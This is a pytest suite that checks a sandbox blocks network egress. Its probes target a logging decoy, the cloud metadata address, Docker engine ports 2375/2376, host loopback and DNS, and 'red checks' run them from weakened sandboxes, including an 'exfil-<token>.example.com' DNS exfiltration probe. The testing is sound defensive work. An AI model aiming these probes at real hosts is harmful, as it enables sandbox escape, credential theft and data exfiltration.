"""Network of no-egress tools (docs/escape-battery.md cases 25-28), on runc and gVisor.

Two kinds of evidence:
* the sandbox's own view: only `lo` in /proc/net/dev, no route in /proc/net/route, only
  127.0.0.1 in /etc/resolv.conf, and connect() to an outside address failing with "no route"
  at once (no route means no packet is ever sent);
* decoys the test starts itself, on its own internal Docker network: a socket server that logs
  every TCP connection and UDP datagram it gets. The sandbox's probes at the decoy fail, and the
  decoy's log shows nothing arrived.

The red checks run the same probes from a weakened sandbox that is attached to the test's own
network (or to the host's network namespace, for a listener on the host's loopback): the decoy
then logs the connection. They aim only at the decoy and at loopback, never at any other
address. The metadata-address probe runs only in a sandbox whose view has just been checked to
hold no interface but lo (the probe script refuses otherwise), and never in a weakened one.
gVisor's red checks are not run: runsc is registered with --network=none, so it cannot be
attached to a network at all (which is itself the protection on that runtime).
"""

from __future__ import annotations

import json
import secrets
import socket
import threading
from dataclasses import dataclass

import pytest
from testcontainers.core.container import DockerContainer
from testcontainers.core.wait_strategies import LogMessageWaitStrategy

from ringfence_server.conformance.attacks import DNS_PROBE, VIEW_PROBE
from ringfence_server.sandbox.labels import base_labels
from ringfence_server.sandbox.pinned_images import load_lock
from ringfence_server.sandbox.result import SandboxResult

pytestmark = pytest.mark.docker

TCP_PORTS = (80, 2375, 8080)
UDP_PORTS = (53, 9999)

# The decoy: logs every connection and datagram, one line each, flushed at once.
DECOY = rf"""
import selectors, socket
sel = selectors.DefaultSelector()
for port in {TCP_PORTS!r}:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(64); s.setblocking(False)
    sel.register(s, selectors.EVENT_READ, ("TCP", port))
for port in {UDP_PORTS!r}:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", port)); u.setblocking(False)
    sel.register(u, selectors.EVENT_READ, ("UDP", port))
print("READY", flush=True)
while True:
    for key, _ in sel.select():
        proto, port = key.data
        if proto == "TCP":
            conn, peer = key.fileobj.accept()
            print("TCP", port, peer[0], "connected", flush=True)
            conn.settimeout(1)
            try:
                data = conn.recv(256)
            except OSError:
                data = b""
            print("TCP", port, peer[0], repr(data), flush=True)
            conn.close()
        else:
            data, peer = key.fileobj.recvfrom(4096)
            print("UDP", port, peer[0], repr(data), flush=True)
"""


# Connects to each target and sends a marker; prints {target: outcome}.
CONNECT_PROBE = r"""
import errno, json, socket, sys
def ename(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    return errno.errorcode.get(e.errno, str(e.errno))
marker = sys.argv[1].encode()
results = {}
for target in json.loads(sys.argv[2]):
    proto, host, port = target.split(":")
    kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
    s = socket.socket(socket.AF_INET, kind)
    s.settimeout(3)
    try:
        if proto == "tcp":
            s.connect((host, int(port)))
            s.sendall(marker)
            results[target] = "connected"
        else:
            s.sendto(marker, (host, int(port)))
            results[target] = "sent"
    except OSError as e:
        results[target] = ename(e)
    finally:
        s.close()
print(json.dumps(results))
"""


# The local error connect() gets when there is no route: immediate, no packet sent. gVisor's
# netstack says EHOSTUNREACH where Linux says ENETUNREACH; with IPv6 disabled in the sandbox,
# Linux has no IPv6 source address at all (EADDRNOTAVAIL).
NO_ROUTE = {"runc": "ENETUNREACH", "gvisor": "EHOSTUNREACH"}
NO_ROUTE6 = {"runc": "EADDRNOTAVAIL", "gvisor": "EHOSTUNREACH"}

# Resolver options so a lookup in a red check gives up after one short try.
FAST_RESOLVER = {"RES_OPTIONS": "timeout:1 attempts:1"}


# -- fixtures: the test's own network and decoy ---------------------------------------------------


@dataclass
class Decoy:
    container: DockerContainer
    network: str
    ip: str
    gateway: str

    def log(self) -> str:
        return self.container.get_wrapped_container().logs(stdout=True, stderr=True).decode(errors="replace")

    def hits_since(self, before: str) -> list[str]:
        """Connection and datagram lines logged after the snapshot `before`."""
        new = self.log()[len(before):]
        return [line for line in new.splitlines() if line.startswith(("TCP", "UDP"))]


@pytest.fixture(scope="module")
def decoy(docker_client, pinned_images):
    """A logging socket server of the pinned base image on an internal test network."""
    name = f"rf-test-net-{secrets.token_hex(4)}"
    network = docker_client.networks.create(name, driver="bridge", internal=True, labels=base_labels("test"))
    container = (
        DockerContainer(load_lock().image_id("base"))
        .with_command(["python3", "-u", "-I", "-c", DECOY])
        .waiting_for(LogMessageWaitStrategy("READY").with_startup_timeout(30))
        .with_kwargs(
            network=name,
            labels=base_labels("test"),
            user="10001:10001",
            read_only=True,
            cap_drop=["ALL"],
            security_opt=["no-new-privileges:true"],
            # Let the unprivileged decoy bind 53 and 80 inside its own network namespace.
            sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
        )
    )
    try:
        with container:  # removes the decoy on exit, and if it fails to become ready
            wrapped = container.get_wrapped_container()
            wrapped.reload()
            ip = wrapped.attrs["NetworkSettings"]["Networks"][name]["IPAddress"]
            network.reload()
            gateway = network.attrs["IPAM"]["Config"][0]["Gateway"]
            assert ip and gateway
            yield Decoy(container, name, ip, gateway)
    finally:
        network.remove()


def report(result: SandboxResult) -> dict:
    text = result.stdout.decode(errors="replace").strip()
    assert result.exit_code == 0 and text, (
        f"probe did not complete: outcome={result.outcome} exit={result.exit_code} "
        f"stdout={text[-1000:]!r} stderr={result.stderr.decode(errors='replace')[-1000:]!r}"
    )
    return json.loads(text.splitlines()[-1])


def on_test_network(decoy: Decoy, *, dns: list[str] | None = None):
    """Settings change for the red checks: attach the sandbox to the test's own network."""

    def change(settings: dict) -> dict:
        settings = {k: v for k, v in settings.items() if k not in ("dns", "dns_search")}
        settings["network_mode"] = decoy.network
        if dns is not None:
            settings["dns"] = dns
            # ... and Docker's own resolv.conf (pointing at its embedded resolver, which
            # forwards to `dns`) instead of the sandbox's static one.
            settings["mounts"] = [m for m in settings.get("mounts") or [] if m["Target"] != "/etc/resolv.conf"]
        return settings

    return change


def decoy_targets(decoy: Decoy) -> list[str]:
    return [f"tcp:{decoy.ip}:{p}" for p in TCP_PORTS] + [f"udp:{decoy.ip}:{p}" for p in UDP_PORTS]


# -- 25. no interface but lo, no route; the decoy is unreachable --------------------------------


def test_sandbox_view_has_only_loopback(attack, runtime) -> None:
    view = report(attack(["python3", "-I", "-c", VIEW_PROBE], runtime=runtime))
    assert view["ifaces"] == ["lo"]
    assert view["routes"] == [] and view["routes6"] == []
    assert view["resolv"] and all(words[0] != "nameserver" or words[1:] == ["127.0.0.1"] for words in view["resolv"])
    assert ["nameserver", "127.0.0.1"] in view["resolv"]


def test_tcp_and_udp_to_a_decoy_fail_and_it_sees_nothing(attack, runtime, decoy: Decoy) -> None:
    marker = f"probe-{secrets.token_hex(6)}"
    before = decoy.log()
    results = report(attack(["python3", "-I", "-c", CONNECT_PROBE, marker, json.dumps(decoy_targets(decoy))],
                            runtime=runtime))
    assert results == {t: NO_ROUTE[runtime] for t in decoy_targets(decoy)}
    assert decoy.hits_since(before) == []


def test_red_check_on_the_test_network_the_decoy_is_reached(weakened, decoy: Decoy) -> None:
    marker = f"probe-{secrets.token_hex(6)}"
    before = decoy.log()
    run = weakened(on_test_network(decoy))
    results = report(run(["python3", "-I", "-c", CONNECT_PROBE, marker, json.dumps(decoy_targets(decoy))]))
    assert set(results.values()) == {"connected", "sent"}
    hits = decoy.hits_since(before)
    for port in TCP_PORTS:
        assert any(h.startswith(f"TCP {port} ") and marker in h for h in hits), hits
    for port in UDP_PORTS:
        assert any(h.startswith(f"UDP {port} ") and marker in h for h in hits), hits


# -- 26. the metadata address and names ---------------------------------------------------------


def test_metadata_address_and_names_are_unreachable(attack, runtime, decoy: Decoy) -> None:
    """No route to 169.254.169.254 (nor to the IPv6 one): connect() fails at once, so no packet
    is sent. The decoy stands in for a metadata server on a network the sandbox is not on."""
    view = report(attack(["python3", "-I", "-c", VIEW_PROBE], runtime=runtime))
    assert view["metadata"] == {"169.254.169.254": NO_ROUTE[runtime], "fd00:ec2::254": NO_ROUTE6[runtime]}
    assert set(view["metadata_names"].values()) == {"gaierror"}
    assert "169.254" not in view["hosts"] and "metadata" not in view["hosts"]
    before = decoy.log()
    marker = f"imds-{secrets.token_hex(6)}"
    results = report(attack(["python3", "-I", "-c", CONNECT_PROBE, marker, json.dumps([f"tcp:{decoy.ip}:80"])],
                            runtime=runtime))
    assert results == {f"tcp:{decoy.ip}:80": NO_ROUTE[runtime]}
    assert decoy.hits_since(before) == []


# -- 27. the host, the bridge gateway, the engine's ports, other containers ----------------------


class HostListener:
    """A TCP listener on the host's loopback that counts connections."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while not self._done.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def __enter__(self) -> HostListener:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._done.set()
        self._thread.join(timeout=5)
        self.sock.close()


def test_gateway_engine_ports_host_loopback_and_other_containers_are_unreachable(attack, runtime, decoy: Decoy) -> None:
    """The gateway (the host's side of the test bridge) and the engine's TCP ports have no route;
    127.0.0.1 inside is the sandbox's own loopback, where nothing listens (not the host's)."""
    with HostListener() as host:
        targets = [
            f"tcp:{decoy.gateway}:2375",
            f"tcp:{decoy.gateway}:2376",
            f"tcp:{decoy.gateway}:22",
            f"tcp:{decoy.ip}:8080",
            "tcp:127.0.0.1:2375",
            "tcp:127.0.0.1:2376",
            f"tcp:127.0.0.1:{host.port}",
        ]
        before = decoy.log()
        results = report(attack(["python3", "-I", "-c", CONNECT_PROBE, "x", json.dumps(targets)], runtime=runtime))
    assert {t: results[t] for t in targets[:4]} == {t: NO_ROUTE[runtime] for t in targets[:4]}
    assert {t: results[t] for t in targets[4:]} == {t: "ECONNREFUSED" for t in targets[4:]}
    assert host.accepted == 0
    assert decoy.hits_since(before) == []


def test_red_check_in_the_host_network_namespace_the_host_listener_is_reached(weakened) -> None:
    def host_network(settings: dict) -> dict:
        settings = {k: v for k, v in settings.items() if k not in ("dns", "dns_search", "hostname")}
        settings["network_mode"] = "host"
        return settings

    with HostListener() as host:
        target = f"tcp:127.0.0.1:{host.port}"
        results = report(weakened(host_network)(["python3", "-I", "-c", CONNECT_PROBE, "x", json.dumps([target])]))
    assert results == {target: "connected"}
    assert host.accepted == 1


# -- 28. DNS --------------------------------------------------------------------------------------


def test_dns_lookups_get_no_answer(attack, runtime, decoy: Decoy) -> None:
    token = secrets.token_hex(6)
    before = decoy.log()
    out = report(
        attack(["python3", "-I", "-c", DNS_PROBE, f"exfil-{token}.example.com", "--local"], runtime=runtime,
               env=FAST_RESOLVER)
    )
    assert out["lookup"] == "gaierror"
    assert out["tcp53"] == "ECONNREFUSED" and out["udp53"] == "ECONNREFUSED"
    assert decoy.hits_since(before) == []


def test_red_check_with_a_resolver_on_the_network_the_query_name_leaks(weakened, decoy: Decoy) -> None:
    """With a network and a resolver (here: the decoy), the lookup carries the token out."""
    token = secrets.token_hex(6)
    before = decoy.log()
    run = weakened(on_test_network(decoy, dns=[decoy.ip]))
    out = report(run(["python3", "-I", "-c", DNS_PROBE, f"exfil-{token}.example.com"], env=FAST_RESOLVER))
    assert out["lookup"] == "gaierror"  # the decoy never answers; it only listens
    hits = decoy.hits_since(before)
    assert any(h.startswith("UDP 53 ") and f"exfil-{token}" in h for h in hits), hits
